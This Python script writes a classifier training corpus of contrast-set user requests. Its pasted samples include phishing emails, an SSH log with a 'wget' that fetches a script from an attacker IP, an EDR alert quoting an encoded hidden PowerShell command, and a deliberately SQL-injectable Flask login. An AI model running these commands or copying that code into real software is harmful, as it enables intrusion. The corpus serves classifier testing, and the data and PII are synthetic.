"""Fourteenth hand-written TRAIN corpus (writes ``train_diverse14.jsonl``).

Why: the intent model tends to read the intent off the *topic* ("a lease, so
qa"; "a phishing email, so classify"). This corpus is built as CONTRAST SETS:
small groups of 3-8 rows on the same subject (a lease break clause, an
ibuprofen dose, a phishing email, a Q3 report, meeting notes ...) where only
the ask changes, so the intent has to be read from the ask, not the subject.
It mixes terse (4-10 words) and long (60-150 words, pasted material) rows,
lower-case chat style and formal style, about 70 multi-task rows (two or three
asks chained with ", and", "then", "also", separate sentences or numbers),
marked PII of every type and a few hard negatives. It was written without
running the classifier on it.

Intent guide (every row, and every clause of a multi-task row, follows it):

- qa: a factual or explanatory question whose answer does not depend on
  weighing this person's situation ("what is a 409A", "how does Kerberos
  work", "what's the deadline for filing X", "is ibuprofen an NSAID").
- reasoning: weighing options, judging a specific situation, deciding,
  diagnosing, planning, "should I", "what would you do", "is this enforceable
  here", "why might X have happened", puzzles.
- math: a numeric answer must be computed (percentages, loan payments, doses,
  unit conversions, statistics).
- extract: pull specific fields / items out of given text ("list the dates",
  "give me the IBAN and the amount", "pull out the action items").
- classify: assign given items to given or implied categories ("is this
  spam", "tag each ticket", "which of these are urgent", "phishing or legit?").
- sentiment: the emotional tone / attitude of given text ("how angry is this
  customer", "is this review positive", "is the author for or against").
- summarize: condense given text ("tl;dr", "three bullets", "for the board").
- draft: write a practical text to send or use (email, letter, policy, memo,
  job ad, notice, reply).
- creative: stories, poems, slogans, names, jokes, toasts, fiction.
- code: write / fix / explain / review code, regex, SQL, spreadsheet formulas,
  shell commands.
- translate: into another language (or "how do I say X in Y").
- chat: small talk, thanks, greetings, questions about the assistant itself.

Domain is whose expert you would ask: personal money, tax, insurance, prices,
budgets, accounting -> finance; rights, disputes, contracts, compliance,
employment law -> legal; symptoms, drugs, care, clinical notes -> medical;
accounts, attacks, phishing, malware, access control, vulnerabilities ->
security; office, social, creative and technical-but-not-security asks ->
general. A neutral task (summarise, extract, translate, sentiment ...) takes
the domain of the material it acts on. Creative asks and chat are general
even when they mention a domain word; code is general unless it encodes the
domain's own rules (a dosing check, an ageing bucket, an FV formula, a
security control). Complexity is low unless the task weighs options (medium)
or is a long structured deliverable (high). Sensitivity: public by default,
internal for internal business material, confidential for personal data
(named people, contact details, a person's records), restricted for cards,
IBANs, SSNs, NRICs and credentials; each task of a multi-task row is labelled
by what that task itself touches. Math always gets the calculator.

Row format, one per line: ``spec [=> clause] [;; spec => clause ...] | text``
where spec is ``[!]intent d cx s [calc|retr|web|code]`` (d in g/f/l/m/s, cx in
l/m/h, s in p/i/c/r; a leading ``!`` marks a hard negative: ids, versions,
failing checksums, dates, amounts, and no PII). ``{NAME}`` pastes material
from ``_MAT`` after a blank line (``{{NAME}}`` inline) or inserts a marked PII
value / unmarked look-alike from ``_V``; ``\\n`` is a newline. Blank lines and
``#`` lines inside a block only separate and name the contrast sets.
Usage: ``python tests/data/intent/train_diverse14_source.py`` (rewrites the
jsonl, then validates it and prints per-intent / per-domain counts).
"""

# ruff: noqa: E501  (data tables: long literal phrasings read better unwrapped)

from __future__ import annotations

from corpus import (
    HERE,
    Placeholders,
    Row,
    Values,
    check_lookalikes,
    line_rows,
    mark,
    pv,
    write_and_check,
)

_v = Values(1414014)


def _p(name: str) -> str:
    return mark("PERSON", name)


def _e(addr: str) -> str:
    return mark("EMAIL", addr)


def _ph(num: str) -> str:
    return mark("PHONE", num)


def _ip(addr: str) -> str:
    return mark("IP_ADDRESS", addr)


# ---------------------------------------------------------------- PII values
_V = {
    "CARD1": mark("CREDIT_CARD", _v.card("4", 16, " ")),
    "CARD2": mark("CREDIT_CARD", _v.card("37", 15, "-")),
    "CARD3": mark("CREDIT_CARD", _v.card("54", 16, "")),
    "CARD4": mark("CREDIT_CARD", _v.card("6011", 16, "-")),
    "IBAN1": mark("IBAN", _v.iban("NL", True)),
    "IBAN2": mark("IBAN", _v.iban("GB", False)),
    "IBAN3": mark("IBAN", _v.iban("FR", True)),
    "IBAN4": mark("IBAN", _v.iban("DE", False)),
    "SSN1": mark("US_SSN", _v.ssn()),
    "SSN2": mark("US_SSN", _v.ssn()),
    "SSN3": mark("US_SSN", _v.ssn(" ")),
    "NRIC1": mark("SG_NRIC", _v.nric("S")),
    "NRIC2": mark("SG_NRIC", _v.nric("T")),
    "FIN1": mark("SG_NRIC", _v.nric("G")),
    "P_MORT1": _p("Joanna Pereira"),
    "P_MORT2": _p("Luke Hammond"),
    "P_HMRC": _p("Daniel Okonjo"),
    "P_INS": _p("Beatrice Lowe"),
    "P_CUST": _p("Graham Whitfield"),
    "P_POL": _p("Sunita Chauhan"),
    "P_STMT": _p("Oliver Brandt"),
    "P_W2": _p("Megan Castillo"),
    "P_SGF": _p("Tan Wei Ling"),
    "P_TEN": _p("Marek Nowak"),
    "P_LL": _p("Simon Ashworth"),
    "P_EMP": _p("Hannah Idowu"),
    "P_ROOF": _p("Gary Pickering"),
    "P_CLIENT": _p("Chloe Marsden"),
    "P_DE": _p("Katrin Vogel"),
    "P_SGL": _p("Lim Boon Huat"),
    "P_PAT": _p("Margaret Ellery"),
    "P_CLIN": _p("Aisha Rahman"),
    "P_LAB": _p("Peter Kowalski"),
    "P_SG": _p("Rajesh Pillai"),
    "P_NOTE": _p("Eleanor Fitch"),
    "P_CARE": _p("Dorothy Hebden"),
    "P_EDR": _p("Tom Brennan"),
    "P_LEAK1": _p("Carla Benton"),
    "P_LEAK2": _p("Ifeanyi Obi"),
    "P_C1": _p("Niamh Gallagher"),
    "P_C2": _p("Arjun Mehta"),
    "P_C3": _p("Sofia Lindqvist"),
    "P_GYM": _p("Nur Aisyah Binte Rahim"),
    "P_DEV": _p("Felix Okafor"),
    "E_EMP": _e("hannah.idowu@mail.co.uk"),
    "E_IG": _e("jessmakes.things@gmail.com"),
    "E_PHISH": _e("dse-notify@harbourlegal-docs.com"),
    "E_LOGIN": _e("r.santos@contoso.org"),
    "E_LEAK1": _e("carla.b@example.com"),
    "E_LEAK2": _e("ifeanyi.obi@acme-corp.io"),
    "E_C1": _e("niamh.g@acme-corp.io"),
    "E_C2": _e("arjun.mehta@acme-corp.io"),
    "E_TEN": _e("marek.nowak84@outlook.com"),
    "E_PAT": _e("m.ellery@btinternet.com"),
    "PH_CLIN": _ph("07700 900461"),
    "PH_C1": _ph("+44 7700 900218"),
    "PH_C2": _ph("+44 7700 900733"),
    "PH_INS": _ph("0161 496 0732"),
    "PH_SG": _ph("+65 9123 4471"),
    "IP1": _ip("185.220.101.47"),
    "IP2": _ip("81.2.69.160"),
    "IP3": _ip("45.153.160.2"),
    "IP4": _ip("194.36.189.71"),
    "IP5": _ip("103.75.201.4"),
    "IP6": _ip("10.20.4.15"),
    "IP7": _ip("142.250.180.14"),
    "IP8": _ip("86.14.22.190"),
    "IP9": _ip("102.89.34.77"),
}

# unmarked look-alikes for the hard negatives: every one fails its checksum
_HN = {
    "BADCARD1": _v.bad_card("4", " "),
    "BADCARD2": _v.bad16("-"),
    "BADIBAN1": _v.bad_iban("DE", True),
    "BADIBAN2": _v.bad_iban("NL", False),
    "BADNRIC": pv.bad_nric(_v.rng),
}
_V.update(_HN)

# ---------------------------------------------------------------- pasted material
_MAT = {
    "MORTGAGE_OFFER": "MORTGAGE OFFER - Applicants: {P_MORT1} and {P_MORT2}. Property: 14 Larch Close, Didsbury. Loan amount £240,000 over a term of 25 years, repayment basis. Initial rate 4.59% fixed until 30 September 2030, then our Standard Variable Rate (currently 7.49%) for the remaining term. Product fee £999, which may be added to the loan. Early repayment charges: 5% of the amount repaid in year 1, 4% in year 2, 3% in year 3, 2% in year 4, 1% in year 5. Overpayments of up to 10% of the balance each year are allowed without charge. This offer is valid for six months.",
    "INVOICE": "INVOICE No. NW-2291\nNorthwind Packaging Ltd, Unit 4 Brook Park, Leeds\nBill to: Hallam Foods Ltd\nDate: 3 June 2025    Due: 3 July 2025 (30 days)\n\n2,400 x corrugated boxes 40x30x30 @ 2.15 = 5,160.00\n1,200 x pallet wrap rolls @ 2.10 = 2,520.00\nDelivery = 740.00\nNet total: 8,420.00\nVAT 20%: 1,784.00\nTotal due: 10,204.00\nPayment by bank transfer, quoting the invoice number.",
    "BANK_COMPLAINT": "Third time writing about this. On 2 May you charged my card twice for the same £249.99 order and your chatbot keeps telling me to 'wait 5-7 working days'. It has now been 23 days. I have banked with you for eleven years and this is how I get treated? If the money isn't back by Friday I am closing both accounts and going to the ombudsman.\n{P_CUST}",
    "HMRC_LETTER": "Dear {P_HMRC},\nOur records show that your Self Assessment tax return for the year ended 5 April 2024 was received on 14 February 2025, after the deadline of 31 January 2025. A late filing penalty of £100 has therefore been charged. If you have a reasonable excuse for filing late, you can appeal within 30 days of the date of this notice. Interest will be charged on any tax paid late. You do not need to contact us if you have already paid.",
    "INSURER_REVIEW": "Switched to Clearway Insurance last year because they were cheapest. When my windscreen cracked it took four phone calls and nineteen days to get a repair booked, and nobody ever called me back when promised. The repair itself was fine, I'll give them that. Renewal quote just came in 30% higher. Won't be staying.",
    "POLICY_SCHEDULE": "Policyholder: {P_POL}. Policy number: MTR-5561093. Vehicle: 2019 Skoda Octavia estate. Cover: comprehensive. Compulsory excess £250, voluntary excess £250. Add-ons: legal expenses cover (£29.99), courtesy car (£19.99). Annual premium £538.40. Renewal date 1 August 2025. Claims line: {PH_INS}.",
    "Q3_REPORT": "Q3 update (internal). Revenue EUR 3.9M, up 9% on Q3 last year but 6% below plan, mainly because two enterprise renewals slipped into October. Gross margin held at 62%. Operating expenses were EUR 2.7M against a budget of EUR 2.5M, driven by contractor spend on the platform migration. Cash at quarter end EUR 5.1M, roughly 14 months of runway at the current burn. We plan to hire eleven people in Q4; finance recommends phasing six of those into Q1 unless the slipped renewals close by mid-November.",
    "STATEMENT": "Account holder: {P_STMT} - statement June 2025\n01 Jun  DD Octopus Energy      96.00\n03 Jun  DD Vodafone            38.00\n05 Jun  DD PureGym             29.99\n08 Jun  DD Council Tax        164.00\n12 Jun  DD Spotify Family      19.99\n15 Jun  DD Amazon Prime         8.99\n18 Jun  DD Life cover (L&G)    22.40\n28 Jun  DD Disney+              7.99",
    "W2": "Form W-2 (2024). Employee: {P_W2}, SSN {SSN1}. Box 1 wages, tips, other compensation: 68,412.50. Box 2 federal income tax withheld: 8,905.12. Box 4 social security tax withheld: 4,241.58. Employer: Lakeside Dental Group, EIN 84-1234567.",
    "BREAK_CLAUSE": "7.2 Break clause. Either the Landlord or the Tenant may terminate this tenancy on or after the last day of the sixth month of the Term by giving the other not less than two months' prior written notice, such notice to expire on the last day of a rental period. Any notice served before the end of the fourth month of the Term shall be of no effect. On expiry of the notice the Tenant shall give vacant possession and the deposit shall be returned in accordance with clause 9.",
    "NDA_CLAUSES": "3. Confidential Information shall be kept secret for a period of ten (10) years from the date of disclosure.\n4. The Recipient shall not, for 24 months after the end of the discussions, solicit or employ any employee of the Discloser.\n5. The Recipient shall indemnify the Discloser for all losses arising from any breach of this Agreement, without limit.\n6. Either party may disclose Confidential Information where required by law, giving prompt notice to the other.\n7. This Agreement is governed by the laws of England and Wales.",
    "DISMISSAL_TIMELINE": "{P_EMP} - timeline. Joined Fenwick Logistics on 6 March 2023 as a transport planner. 2 September 2024: raised unpaid overtime with my line manager by email. 19 September 2024: first ever warning, for 'attitude'. 7 October 2024: told my role was at risk because of a restructuring. 21 October 2024: dismissed with one week's pay in lieu of notice. 11 November 2024: job advert posted for a 'Transport Planner' with almost identical duties.",
    "HR_EMAIL": "As we have explained on several occasions, the decision is final and we will not be entering into further correspondence about it. Any further contact should be made in writing only. We would also remind you that your confidentiality obligations continue after your employment has ended and that the company will not hesitate to enforce them.",
    "SAAS_TERMS": "12.1 Nothing in these Terms limits liability for death or personal injury caused by negligence, or for fraud. 12.2 Subject to 12.1, our total liability under these Terms shall not exceed the fees paid by you in the three (3) months before the claim. 12.3 We are not liable for any loss of data, profits or goodwill. 15. These Terms are governed by the laws of Ireland and the courts of Dublin have exclusive jurisdiction. 16. We may change these Terms at any time by posting the new version on our website.",
    "JUDGMENT": "The claimant engaged the defendant to re-roof a detached garage for £4,800. Within two months the roof leaked in three places. The defendant argued that the claimant had chosen a cheaper felt against his advice. The court found no written record of that advice and held that the work was not carried out with reasonable care and skill, contrary to section 49 of the Consumer Rights Act 2015. The defendant was ordered to pay £3,150, being the cost of remedial work, plus the court fee.",
    "SERVICES": "This Services Agreement is made on 3 March 2025 between Brightwell Studio Ltd (the Supplier) and {P_CLIENT} trading as Harbour Yoga (the Client). The Supplier will design and build a booking website by 30 April 2025 and provide six months of support from launch. The Client will pay £6,000, half on signature and half on launch, and will supply all content by 21 March 2025. Either party may terminate on 14 days' written notice; work done up to that date will be paid for.",
    "DE_LETTER": "Sehr geehrte Frau {P_DE},\nhiermit kündigen wir das mit Ihnen bestehende Arbeitsverhältnis ordentlich und fristgerecht zum 30. September 2025. Ihr Resturlaub von 12 Tagen wird Ihnen bis zum Ende der Kündigungsfrist gewährt. Ein qualifiziertes Arbeitszeugnis erhalten Sie mit der letzten Gehaltsabrechnung. Bitte melden Sie sich spätestens drei Tage nach Erhalt dieses Schreibens bei der Agentur für Arbeit arbeitssuchend.\nMit freundlichen Grüßen\nPersonalabteilung, Brandt Maschinenbau GmbH",
    "DISCHARGE": "Discharge summary - {P_PAT}, 71F. Admitted 2 May with community-acquired pneumonia (CURB-65 score 2). Treated with IV co-amoxiclav, switched to oral; afebrile for 48h, sats 95% on air. Background: AF on apixaban 5 mg BD, T2DM on metformin 1 g BD, CKD stage 3a (eGFR 48). New: amoxicillin 500 mg TDS to complete 7 days in total; lansoprazole 15 mg OD while on antibiotics. Creatinine rose from 98 to 131 during admission and was not rechecked before discharge. GP: please repeat U&E in 1 week, review the metformin dose if eGFR falls below 45, and arrange a chest X-ray in 6 weeks.",
    "TRIAGE_MSGS": "1. My 3-year-old has had a temperature of 39.5 since last night and isn't drinking.\n2. Can I get a repeat prescription for my blue inhaler?\n3. My chest feels tight and my left arm has been numb for 20 minutes.\n4. I'd like to book a smear test.\n5. Rash on my back for a week, not itchy, not spreading.\n6. Cut my hand on a knife, still bleeding through two plasters after an hour.",
    "GLUCOSE_LOG": "Mon 07:10 6.2; Mon 09:30 11.8; Mon 19:00 7.4; Tue 07:05 5.9; Tue 09:40 12.6; Tue 21:15 8.1; Wed 07:20 6.8; Wed 09:35 10.9; Thu 07:00 6.1; Thu 13:00 9.2; Fri 09:45 13.4; Fri 22:30 3.8 (mmol/L)",
    "PATIENT_COMMENTS": "1. Waited two and a half hours past my appointment time with no explanation.\n2. Dr Osei was brilliant - listened and explained everything.\n3. Toilets on level 2 were filthy again.\n4. Got charged for parking even though the machine was broken.\n5. The nurses on ward 7 were kind but clearly exhausted and short-staffed.",
    "TRIAL_ABSTRACT": "Background: We tested whether drug X, taken once daily, reduces hospitalisation for heart failure in patients with reduced ejection fraction. Methods: Randomised, double-blind trial; 4,744 patients assigned to drug X 10 mg or placebo, median follow-up 18.2 months. Results: The primary outcome (worsening heart failure or cardiovascular death) occurred in 16.3% of the drug X group and 21.2% of the placebo group (hazard ratio 0.74; 95% CI 0.65-0.85; P<0.001). Serious adverse events were similar; volume depletion occurred in 7.5% vs 6.8%. Conclusions: Drug X reduced the risk of worsening heart failure or death.",
    "CARE_HANDOVER": "Night handover, Rosewood unit.\nRoom 4, {P_CARE}, 88: restless 01:00-03:00, calling for her late husband, settled with reassurance; drank 150 mL only; refused 22:00 paracetamol.\nRoom 7: found on the floor at 04:10, no visible injury, obs normal, daughter left a voicemail; GP not yet informed.\nRoom 9: new red area on left heel, dressing applied, needs a tissue viability referral.",
    "CLINIC_NOTE": "Seen {P_CLIN}, 34F, mobile {PH_CLIN}. Two weeks of productive cough, no fever, non-smoker. Chest clear on auscultation, sats 98%. Allergic to penicillin (hives) and to elastoplast. Likely post-viral cough. Advised fluids and honey; review if not better in 3 weeks or if breathless. No antibiotics.",
    "LAB_RESULTS": "{P_LAB}, DOB 12/04/1961. Hb 101 g/L (L), MCV 72 fL (L), ferritin 8 ug/L (L), platelets 412 (H), CRP 4, eGFR 84, ALT 22. Requested by Dr Mensah for tiredness.",
    "PHISH1": "From: IT Service Desk <it-support[@]m1crosoft-helpdesk[.]com>\nSubject: [ACTION REQUIRED] Mailbox will be disabled today\n\nDear user,\nOur system detected that your mailbox has exceeded its storage limit and will be DISABLED at 17:00 today. To keep your emails, re-validate your account immediately using the secure portal below:\nhxxps://m1crosoft-helpdesk[.]com/owa/validate\nFailure to do so will result in permanent loss of data.\nIT Support Team",
    "PHISH2": "From: DocuSign via Harbour Legal <{E_PHISH}>\nSubject: Completed: Settlement agreement - please review and sign\n\nYou have received a document for review and signature from Harbour Legal LLP.\nREVIEW DOCUMENT: hxxps://harbour-legal-docs[.]web[.]app/sign?id=88213\nThis link expires in 12 hours. If you do not sign, the agreement will be withdrawn.\nPowered by DocuSign",
    "SSH_LOG": "Mar 12 03:14:07 bastion-01 sshd[2211]: Failed password for invalid user admin from {IP1} port 51022 ssh2\nMar 12 03:14:09 bastion-01 sshd[2211]: Failed password for invalid user oracle from {IP1} port 51030 ssh2\nMar 12 03:14:12 bastion-01 sshd[2214]: Failed password for root from {IP1} port 51041 ssh2\nMar 12 03:15:40 bastion-01 sshd[2230]: Failed password for jsmith from {IP2} port 40112 ssh2\nMar 12 03:15:44 bastion-01 sshd[2230]: Accepted password for jsmith from {IP2} port 40112 ssh2\nMar 12 03:16:02 bastion-01 sudo: jsmith : TTY=pts/0 ; USER=root ; COMMAND=/usr/bin/wget hxxp://{IP3}/k.sh",
    "ADVISORY": "Summary: A path traversal vulnerability in the file-upload handler of Orbit CMS versions 3.0 through 3.4.2 allows an unauthenticated attacker to write files outside the upload directory and, in default configurations, achieve remote code execution. CVSS 3.1 base score 9.8 (Critical). Exploitation in the wild has been reported since 2 April. Fixed in 3.4.3. Workaround: disable anonymous uploads, or block requests whose filename contains '../'. Indicators: unexpected .php files in /var/www/orbit/uploads.",
    "ACCESS_REVIEW": "user,role,system,last_login\nk.ahmed,admin,billing-prod,2025-06-02\nr.silva,read-only,billing-prod,2025-01-14\nsvc_backup,admin,billing-prod,never\nt.nguyen,admin,crm,2025-02-27\nl.fischer,editor,crm,2025-06-10\ncontractor07,admin,billing-prod,2025-03-03",
    "EDR_ALERT": "ALERT high - Suspicious PowerShell. Host FIN-LT-114, user {P_EDR}. Parent EXCEL.EXE spawned powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi... at 02:10:44 UTC. SHA256 of dropped file 9f2c7ab4e1d0c6f83b5a2e9d7c41f0ab6e3d8c2b1a9f7e5d4c3b2a1f0e9d8c7b. Outbound connection to {IP4}:443. Action taken: none (detect-only policy).",
    "FW_LOG": "2025-06-11 01:02:13 DENY TCP {IP5}:51514 -> {IP6}:3389\n2025-06-11 01:02:14 DENY TCP {IP5}:51515 -> {IP6}:3389\n2025-06-11 01:02:15 DENY TCP {IP5}:51516 -> {IP6}:3389\n2025-06-11 01:02:15 DENY TCP {IP5}:51517 -> {IP6}:445\n2025-06-11 01:02:16 DENY TCP {IP5}:51518 -> {IP6}:22\n2025-06-11 01:03:40 ALLOW TCP {IP7}:443 -> {IP6}:51890",
    "LOGIN_EVENTS": "user {E_LOGIN} - 09:02 London GB, Chrome on Windows, {IP8} - success\nuser {E_LOGIN} - 09:47 Lagos NG, unknown browser, {IP9} - success\nuser {E_LOGIN} - 09:48 Lagos NG, {IP9} - MFA prompt denied\nuser {E_LOGIN} - 13:15 London GB, Outlook on iOS, {IP8} - success",
    "BOARD_MINUTES": "Item 6 - Cyber risk. The chair said the board was 'deeply uncomfortable' that the phishing incident in March was only reported to the board five weeks later. Directors asked for (a) a quarterly cyber risk report, (b) an independent penetration test before year end, (c) confirmation that backups are tested and kept offline, and (d) a named executive accountable for security. It was noted that the insurer had asked similar questions at renewal and that the premium had risen 40%.",
    "LEAK_SAMPLE": "Sample rows posted on the forum:\nname,email,card,ssn,last_order\n{P_LEAK1},{E_LEAK1},{CARD3},{SSN2},2025-03-02\n{P_LEAK2},{E_LEAK2},,,2025-04-19",
    "FLASK_CODE": "@app.route('/login', methods=['POST'])\ndef login():\n    name = request.form['name']\n    user = db.execute(f\"SELECT * FROM users WHERE name = '{name}'\").fetchone()\n    if user and user['password'] == request.form['password']:\n        session['user'] = name\n        return redirect('/home')\n    return 'Invalid login for ' + name, 401",
    "MEETING_NOTES": "Marketing sync, Tuesday. Present: Ines, Tom, Priya, Kwame.\n1) Spring campaign: creative is late again and Tom is frustrated with the agency; Ines to chase them and get drafts by Friday.\n2) Budget: we're at 82% of H1 spend; Priya to send a breakdown by Monday.\n3) Website relaunch pushed to 14 May - everyone relieved to have more time.\n4) Kwame to book the offsite venue for June and share two options.\n5) Nobody is happy with the new CRM reports; Tom to raise a ticket with IT.",
    "REVIEWS": "A) Battery lasts two full days, screen is gorgeous. Best phone I've owned.\nB) Arrived with a cracked corner. Replacement took three weeks. Never again.\nC) Fine for the price. Camera is meh in low light.\nD) The case it came with is flimsy but the phone itself is fast and the speakers are surprisingly good.\nE) Customer service hung up on me twice when I asked about the warranty.",
    "BUGGY_CODE": "def average_rating(reviews):\n    total = 0\n    for r in reviews:\n        total += r['stars']\n    return total / len(reviews)\n\nprint(average_rating([]))",
    "LIBRARY": "The Riverside Library will close for renovation from 1 September and reopen next spring. The £2.3 million project adds a children's reading garden, a maker space with 3D printers, and step-free access to all floors. During the closure a pop-up branch will run from the community centre on Elm Road on Tuesdays, Thursdays and Saturdays, and the mobile library will visit six villages every fortnight. Loans due during the closure will be extended automatically. Residents are invited to a consultation evening on 18 July to help choose the new furniture and opening hours.",
    "THREAD": "Ravi: Can we move the design review? Friday is a mess for me.\nJo: Thursday 2pm works for me, or Monday morning.\nLeila: Thursday is fine, Monday I'm out.\nRavi: Thursday it is unless anyone objects - can someone bring the printed mockups?",
    "TICKETS": "#4411 Export to CSV drops the last row\n#4412 Can we have dark mode?\n#4413 How do I rename my workspace?\n#4414 App crashes when uploading a file over 2 GB\n#4415 Please add Slack notifications for comments\n#4416 Login page shows a blank screen on Safari 16",
    "ARTICLE": "The council's plan to replace 140 parking spaces on High Street with protected bike lanes is short-sighted. Yes, cycling numbers have doubled since 2019, and yes, the two serious collisions last year were awful. But the traders who keep this street alive depend on passing trade from drivers, and the council's own survey shows 62% of shoppers arrive by car. A trial on a quieter parallel street would have been the sensible first step.",
    "CARPOOL": "Carpool for the Leeds offsite: {P_C1} ({E_C1}, {PH_C1}) driving from York, two free seats; {P_C2} ({E_C2}) needs a lift from the station; {P_C3} ({PH_C2}) can only drive back.",
}

# ---------------------------------------------------------------- rows
FINANCE = r"""
# equity options / 409A
qa f l p | what is a 409A valuation?
reasoning f m p | My startup granted me 12,000 options at a $1.40 strike based on a 409A from 14 months ago, and we've since raised at roughly three times that price. Should I early-exercise now or wait until I leave or there's an exit?
math f l p | I have 12,000 options at a $1.40 strike and the latest 409A says $4.10 a share. What's the paper spread if I exercise all of them today?
classify f l p | ISO or NSO for each: (a) options granted to an employee under the plan at fair value, (b) options granted to an outside advisor, (c) options given to a board member who isn't an employee
draft f l i | Write a short Slack message to our CFO asking when the next 409A is scheduled and whether this month's new-hire grants will wait for it.

# mortgage offer
qa f l p | whats the difference between a fixed rate and a tracker mortgage
math f l p | Monthly repayment on a £240,000 repayment mortgage over 25 years at 4.6%?
reasoning f m p | We can fix at 4.6% for five years or take a lifetime tracker at base + 0.9% (base is 4% today). There's a decent chance we move abroad in about three years. Which makes more sense for us?
extract f l c | Pull the rate, term, product fee and every early repayment charge out of this offer: {MORTGAGE_OFFER}
summarize f l c | Explain this offer to me in three short bullets, plain English please. {MORTGAGE_OFFER}
translate f l p | how do I say "early repayment charge" and "remortgage" in Spanish?

# household budget
classify f l p | Sort into needs, wants and savings: rent 1,150, gym 45, Netflix 12, groceries 380, pension top-up 200, takeaways 140, car insurance 62, holiday fund 100
math f l p | take-home is 2,900 a month and rent is 1,150 - what % of my pay is that and how much is left for everything else?
reasoning f m p | I've got £6k in savings, £3.2k on a credit card at 24% APR, and my emergency-fund target is three months of spending (about £5k). Pay off the card now or keep the cash?
creative g l p | write a funny four-line poem about trying to stick to a budget in january
chat g l p | haha thank you, the budget spreadsheet finally balances
code g l p | Google Sheets formula: total of column C only where column B says "needs", shown as a share of the whole of column C

# supplier invoice
extract f l i | From this invoice give me the supplier, invoice number, due date and the total: {INVOICE}
math f l i | Check the VAT on this one - is the total right, and if not, by how much are they off? {INVOICE}
draft f l i | Write a polite email to Northwind Packaging saying the VAT on invoice NW-2291 is miscalculated (it should be 1,684.00, not 1,784.00) and asking for a credit note.
classify f l i | capex or opex: new forklift, annual software licence, repainting the office, warehouse mezzanine extension, laptops for the three new hires, monthly cloud bill
qa f l p | what's a credit note and when would a supplier issue one?
summarize f l i | one line for the AP team on what's wrong with this invoice {INVOICE}

# double charge / chargeback
qa f l p | how does a chargeback actually work on a debit card?
sentiment f l c | How angry is this customer, 1-10, and how likely are they to leave? {BANK_COMPLAINT}
draft f l c | Write our customer-care reply to this: apologise, confirm the duplicate £249.99 was refunded today and offer a £25 goodwill credit. {BANK_COMPLAINT}
extract f l c | what dates, amounts and deadlines are in this complaint? {BANK_COMPLAINT}
classify f l c | Which queue should this go to: fraud, disputes, complaints or account closure? {BANK_COMPLAINT}
reasoning f m p | Paid a furniture shop £1,900 on my credit card in March, they've gone into administration and the sofa never arrived. Chargeback through my card provider or a claim to the administrator - which is more likely to get my money back?
draft f l r | Write a short dispute letter to my card issuer about a £249.99 payment taken twice on 2 May from card {CARD1}, asking them to reverse the duplicate.

# self assessment / tax
qa f l p | when's the deadline for filing a UK self assessment return online?
math f l p | salary £58,000 in England, standard personal allowance - how much income tax for 2024/25?
reasoning f m p | I'm a freelance designer, turnover about £45k, costs are low. Worth setting up a limited company, or stay a sole trader for now?
translate f l p | translate into German please: "Attached are my payslips for the last three months and my P60 for the tax year."
summarize f l c | Two lines: what is this letter telling me and what can I do about it? {HMRC_LETTER}
classify f l p | which of these can a sole trader usually claim as allowable expenses: part of home broadband, commuting to a regular client office, a new laptop, lunch on a normal workday, professional indemnity insurance, a suit for client meetings
reasoning f m c | I was in hospital from 20 January to 9 February so I missed the deadline. Would that count as a reasonable excuse to appeal this? {HMRC_LETTER}
draft f l c | write the appeal against the £100 late-filing penalty for me, I was in hospital 20 Jan to 9 Feb {HMRC_LETTER}

# car and home insurance
qa f l p | what does "excess" mean on a car insurance policy?
reasoning f m p | Someone reversed into my parked car and drove off; repair quote is £700 and my excess is £500. Is it worth claiming if I'd lose a six-year no-claims discount?
sentiment f l p | Is this review mostly negative or mixed? {INSURER_REVIEW}
summarize f l p | one line: {INSURER_REVIEW}
math f l p | Renewal went from £412 to £538. What's that as a percentage increase?
draft f l c | Write to Clearway Insurance cancelling home policy HX-448120 for {P_INS} within the 14-day cooling-off period and asking for a full refund of the premium.
extract f l c | give me the policy number, both excesses, the premium and the renewal date {POLICY_SCHEDULE}

# savings and pensions
qa f l p | what is an index fund, in simple words?
reasoning f m p | I'm 31, no debt, my employer matches pension contributions up to 5% and I already put in 5%. Where should an extra £300 a month go - more pension, a stocks and shares ISA, or overpaying the mortgage?
math f l p | £300 a month at 6% a year for 20 years, compounded monthly - how much would I have?
code f l p | Excel formula for the future value of monthly deposits: annual rate in B1, years in B2, monthly amount in B3
creative g l p | three fun names for our office savings challenge
qa f l p web | what's the ISA allowance for this tax year?
creative g l p | Write a short bedtime story for a 7-year-old where two squirrels learn how saving acorns grows over time.

# quarterly report
summarize f l i | Three bullets for the board: {Q3_REPORT}
extract f l i | list every figure in this with what it refers to {Q3_REPORT}
reasoning f m i | Based on this, should we phase six of the Q4 hires into Q1 as finance suggests, or hire all eleven now? {Q3_REPORT}
translate f l i | Put this update into French for the Lyon office. {Q3_REPORT}
math f l i | From this, what was Q3 revenue last year, and by what percentage were opex over budget? {Q3_REPORT}
sentiment f l i | Is the tone of this CEO note to staff confident, worried or defensive? "We have had a tougher quarter than planned, and I won't pretend otherwise. Two renewals slipped, costs ran ahead of us, and that's on leadership, not on you. The fundamentals are sound and I expect October to put us back on track."

# currency and prices
math f l p | 1,250 USD in EUR at 0.92?
qa f l p web | what's today's GBP to EUR exchange rate?
reasoning f m p | When I pay by card abroad the terminal asks whether to pay in pounds or in euros. Which should I pick and why?
code g l p | python function that converts an amount between currencies using a dict of rates against USD and rounds to 2 decimals
sentiment f l p | Read these three shopper comments about the price rise - annoyed, resigned or fine with it? "£4.20 for a coffee now, they're having a laugh." / "Everything's gone up, what can you do." / "Still cheaper than the place next door."

# PII: W-2, NRIC, IBAN, cards
extract f l r | From this W-2 give me the SSN, box 1 wages and federal tax withheld. {W2}
math f l r | What's my effective federal withholding rate from this W-2? {W2}
draft f l r | Write a short note to my accountant sending her my details for the return: {P_W2}, SSN {SSN1}, plus the W-2 from Lakeside Dental attached.
draft f l r | Write to my tenant {P_TEN} ({E_TEN}) saying that from July the rent should go to my new account {IBAN2}, same reference as before.
translate f l r | translate into French: "Please transfer the deposit of €1,500 to {IBAN3}, reference FLAT-4B, by Friday."
draft f l r | Compose a letter to the CPF Board for my mother {P_SGF}, NRIC {NRIC2}, asking how to nominate beneficiaries for her CPF savings. Her phone is {PH_SG}.
classify f l r | Which of these should never be pasted into our shared finance channel: an invoice number, the card {CARD4}, a supplier's VAT number, a payroll IBAN {IBAN4}, a PO number?

# multi-task
qa f l p => what is a credit score ;; reasoning f m p => will closing my oldest credit card hurt mine before a mortgage application in June? | what is a credit score, and will closing my oldest credit card hurt mine before a mortgage application in June?
